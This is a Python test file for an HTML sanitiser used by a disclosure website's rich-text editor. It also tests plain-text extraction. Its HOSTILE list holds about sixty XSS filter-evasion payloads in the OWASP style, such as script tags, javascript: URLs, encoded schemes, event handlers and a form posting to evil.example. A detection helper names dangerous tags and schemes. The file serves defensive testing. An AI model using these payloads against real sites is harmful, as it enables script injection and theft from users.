"""The rich-text sanitiser against a hostile corpus (in the style of OWASP's XSS filter-evasion cheat sheet), what it
keeps of the editor's markup, and the plain text read from a body."""

from __future__ import annotations

import re

import pytest

from disclosure.web.richtext import html_to_text, sanitise_html

# Each vector must come out with no script, no handler, no dangerous URL, no external image and no style.
HOSTILE = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src="' + "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')") + '">',
    '<a href="' + "".join(f"&#{ord(c)};" for c in "javascript:alert('XSS')") + '">x</a>',
    '<a href="' + "".join(f"&#x{ord(c):X}" for c in "javascript:alert('XSS')") + '">x</a>',
    "<a href=\"jav\tascript:alert('XSS');\">tab</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">encoded tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">encoded newline</a>",
    "<a href=\"jav&#x0D;ascript:alert('XSS');\">encoded carriage return</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">spaces and meta chars</a>",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">x</TD></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<p style="behavior: url(xss.htc);">x</p>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zdmc+" AllowScriptAccess="always">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
    "<a href=\"VBSCRIPT:msgbox('XSS')\">vb</a>",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="https://tracker.example/pixel.gif">',
    '<img src="//tracker.example/pixel.gif">',
    '<img src="/\\tracker.example/pixel.gif">',
    '<img src="/&#x09;/tracker.example/pixel.gif">',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>',
    "<p><!--<script>alert(1)</script>--></p>",
    "<p>a<![CDATA[<script>alert(1)</script>]]>b</p>",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<p onpointerenter="alert(1)" ONCLICK="alert(2)">handlers</p>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://ok.example" target="_blank" rel="opener">t</a>',
]


def _dangerous(out: str) -> list[str]:
    lowered = out.lower()
    found = []
    for needle in ("<script", "javascript:", "vbscript:", "data:", "<iframe", "<object", "<embed", "<svg", "<math",
                   "<style", "<form", "<input", "<button", "<base", "<meta", "<link", "style=", "expression(",
                   "<frame", "<details", "<video", "<source", "target=", "<body"):  # fmt: skip
        if needle in lowered:
            found.append(needle)
    if re.search(r"\son[a-z]+\s*=", lowered):
        found.append("on* handler")
    for src in re.findall(r'<img[^>]*\ssrc="([^"]*)"', lowered):
        if ":" in src or src.startswith("//") or "\\" in src:
            found.append(f"image {src}")
    for href in re.findall(r'\shref="([^"]*)"', lowered):
        if re.match(r"^[a-z][a-z0-9+.-]*:", href) and not href.startswith(("http:", "https:", "mailto:")):
            found.append(f"link {href}")
    return found


def test_the_corpus_is_big_enough():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("vector", HOSTILE)
def test_hostile_vector_is_defused(vector):
    out = sanitise_html(vector)
    assert _dangerous(out) == [], out
    assert sanitise_html(out) == out  # idempotent: saving twice does not change it


def test_script_text_is_gone_not_shown():
    assert sanitise_html("<p>before</p><script>alert('x')</script><p>after</p>") == "<p>before</p><p>after</p>"
    assert "alert" not in sanitise_html("<style>p{color:red}</style><svg><text>alert</text></svg>")


def test_editor_markup_is_kept():
    html = (
        '<h2 class="ql-align-center">标题</h2><h3>小节</h3><h4>条</h4>'
        "<p><strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s>H<sub>2</sub>O x<sup>2</sup><br>换行</p>"
        "<ol><li>一</li><li>二</li></ol><ul><li>甲</li></ul><blockquote>引文</blockquote><hr>"
        '<table><thead><tr><th colspan="2">表头</th></tr></thead>'
        '<tbody><tr><td rowspan="2">a</td><td class="ql-align-right">b</td></tr></tbody></table>'
    )
    assert sanitise_html(html) == html


def test_links_get_rel_and_keep_safe_targets():
    out = sanitise_html(
        '<p><a href="https://www.gov.cn/zhengce/">国务院</a> <a href="mailto:gk@example.gov.cn">邮件</a> '
        '<a href="/catalog/entries/1">条目</a> <a href="#art-20">第二十条</a> <a href="page.html">相对</a></p>'
    )
    assert out.count('rel="noopener noreferrer"') == 5
    hrefs = ("https://www.gov.cn/zhengce/", "mailto:gk@example.gov.cn", "/catalog/entries/1", "#art-20", "page.html")
    for href in hrefs:
        assert f'href="{href}"' in out


def test_same_site_images_only():
    assert sanitise_html('<p><img src="/files/7/chart.png" alt="图表"></p>') == (
        '<p><img src="/files/7/chart.png" alt="图表"></p>'
    )
    assert sanitise_html('<img src="images/a.png">') == '<img src="images/a.png">'
    for src in ("https://cdn.example/a.png", "http://x/a.png", "//x/a.png", "data:image/gif;base64,R0lGOD", "/\\x/a"):
        assert "src=" not in sanitise_html(f'<img src="{src}">'), src


def test_other_classes_and_attributes_are_dropped():
    out = sanitise_html('<p class="ql-align-center evil" id="main" style="color:red" title="t" dir="rtl">x</p>')
    assert out == '<p class="ql-align-center">x</p>'
    assert sanitise_html('<td colspan="0">x</td>') == "x"  # a lone cell is no table; the text stays
    assert 'colspan="2"' in sanitise_html('<table><tr><td colspan="2">x</td><td colspan="99999">y</td></tr></table>')
    assert "99999" not in sanitise_html('<table><tr><td colspan="99999">y</td></tr></table>')


def test_h1_becomes_h2_and_unknown_tags_keep_their_text():
    assert sanitise_html("<h1>大标题</h1>") == "<h2>大标题</h2>"
    assert sanitise_html("<div><span>文字</span><font color=red>红</font></div>") == "文字红"
    assert sanitise_html("<h5>x</h5>") == "x"


def test_blank_input():
    assert sanitise_html("") == ""
    assert sanitise_html("   \n ") == ""
    assert html_to_text("") == ""


def test_text_breaks_blocks_into_lines():
    html = (
        "<h2>关于印发办法的通知</h2><p>各区县人民政府：<br>现将办法印发给你们。</p>"
        "<ol><li>第一条</li><li>第二条</li></ol>"
        "<table><tr><th>年份</th><th>件数</th></tr><tr><td>2024</td><td>12</td></tr></table>"
        "<p>附件：<a href='/f/1'>办法</a>&nbsp;&amp;&nbsp;说明</p><script>alert('hidden')</script>"
    )
    assert html_to_text(html) == (
        "关于印发办法的通知\n各区县人民政府：\n现将办法印发给你们。\n第一条\n第二条\n"
        "年份\t件数\n2024\t12\n附件：办法 & 说明"
    )


def test_text_of_inline_markup_stays_on_one_line():
    assert html_to_text("<p><strong>加粗</strong>与<em>强调</em>  同行</p>") == "加粗与强调 同行"
    assert html_to_text("纯文本 &lt;b&gt;") == "纯文本 <b>"
    assert html_to_text('<p><img src="/f/a.png" alt="示意图"></p>') == "示意图"
